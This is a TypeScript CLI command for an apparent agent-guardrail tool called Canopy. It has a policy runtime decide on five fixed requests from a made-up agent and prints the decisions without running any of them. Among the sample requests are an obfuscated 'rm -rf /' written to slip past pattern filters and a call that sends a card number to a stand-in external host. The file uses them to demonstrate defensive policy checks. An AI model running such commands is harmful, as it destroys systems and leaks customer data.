// `canopy demo`: five fixed requests and what Canopy decides on them. Runs nothing, writes nothing but the log.

import { createRuntime, type Decision } from "canopy-runtime";
import type { Evaluation } from "canopy-runtime/decision";
import { resolve } from "node:path";
import { decisionLines } from "../decision-view.ts";
import { defineCommand, JSON_FLAG, type CliCommand } from "../define-command.ts";
import { textFlag } from "../text-flag.ts";
import { namedLog, type LogFlags } from "../log-flag.ts";
import { consoleCommand, sayFile, settingsFor } from "../settings.ts";
import { terminalJsonPretty } from "../terminal-text.ts";

type Flags = LogFlags & {
  readonly json: boolean;
  readonly env: string;
  readonly safePath?: readonly string[];
  readonly policyFile?: string;
  readonly auditLogPath?: string;
  readonly noWrite: boolean;
};

interface DemoRequest {
  readonly about: string;
  readonly action_type: string;
  readonly action_payload: Readonly<Record<string, string | number>>;
}

const REQUESTS: readonly DemoRequest[] = [
  { about: "list a folder", action_type: "execute_shell", action_payload: { command: "ls -la" } },
  {
    about: "delete everything, spelled so that no pattern finds it",
    action_type: "execute_shell",
    action_payload: { command: `x=rm; "$x" -r''f / --no-preserve-root` },
  },
  {
    about: "send customer data abroad",
    action_type: "call_external_api",
    action_payload: { url: "https://collector.example.net/in", data: "card 4111 1111 1111 1111" },
  },
  { about: "pay more than the limit", action_type: "transfer_money", action_payload: { amount: 250, currency: "USD" } },
  {
    about: "write a note",
    action_type: "modify_file",
    action_payload: { path: "notes/today.md", content: "buy milk" },
  },
];

/** The command. */
export const demo: CliCommand = defineCommand<Flags, []>({
  brief: "Show five decisions: what is seen, what is decided, and why",
  description: [
    "Decides five fixed requests of a made-up agent. Nothing is run. The decisions are recorded unless --no-write is given.",
  ],
  examples: [
    { command: "canopy demo --no-write", does: "only look" },
    { command: "canopy demo --env production --audit-log-path demo.log", does: "as in production, recorded there" },
  ],
  exits: [
    [0, "shown"],
    [2, "the policy or a setting is not usable"],
    [4, "the decisions could not be recorded"],
  ],
  parameters: {
    flags: {
      env: {
        kind: "parsed",
        parse: String,
        default: "development",
        brief: "The agent's environment, which policies may read",
        placeholder: "NAME",
      },
      safePath: {
        kind: "parsed",
        parse: String,
        optional: true,
        variadic: true,
        brief: "A folder the agent may write to",
        placeholder: "DIR",
      },
      policyFile: {
        kind: "parsed",
        parse: String,
        optional: true,
        brief: "The policy to use (default: the one in force)",
        placeholder: "FILE",
      },
      log: textFlag("The log to record in (default: the one in force)", "LOG"),
      auditLogPath: textFlag("The same as --log", "LOG"),
      noWrite: { kind: "boolean", default: false, withNegated: false, brief: "Decide without recording" },
      json: JSON_FLAG,
    },
  },
  run: async (io, flags) => {
    const resolved = settingsFor(io, {
      audit_log_path: namedLog(flags.log, flags.auditLogPath),
      policy_file: flags.policyFile,
    });
    if (!flags.noWrite) sayFile(io, resolved, "audit_log_path");
    sayFile(io, resolved, "policy_file");
    const { audit_log_path, policy_file } = resolved.settings;
    const runtime = createRuntime({ env: io.env, audit_log_path, ...(policy_file === null ? {} : { policy_file }) });
    const agent_ctx = {
      public_key: "demo-agent",
      environment: flags.env,
      safe_paths: (flags.safePath ?? []).map((path) => resolve(io.cwd, path)),
    };
    const decisions: (Decision | Evaluation)[] = [];
    try {
      for (const { action_type, action_payload } of REQUESTS) {
        decisions.push(
          flags.noWrite
            ? runtime.evaluate(agent_ctx, action_type, action_payload)
            : await runtime.authorize(agent_ctx, action_type, action_payload),
        );
      }
    } finally {
      await runtime.close();
    }
    if (flags.json) io.out(`${terminalJsonPretty(decisions)}\n`);
    else {
      const { columns } = io;
      const console = consoleCommand(io, resolved);
      decisions.forEach((decision, index) => {
        io.out(`${index === 0 ? "" : "\n"}${io.outStyle.dim(`# ${REQUESTS[index]?.about ?? ""}`)}\n`);
        for (const line of decisionLines(decision, { style: io.outStyle, columns, console })) io.out(`${line}\n`);
      });
    }
    return decisions.some((each) => "authorization_id" in each && each.authorization_id === null) ? 4 : 0;
  },
});
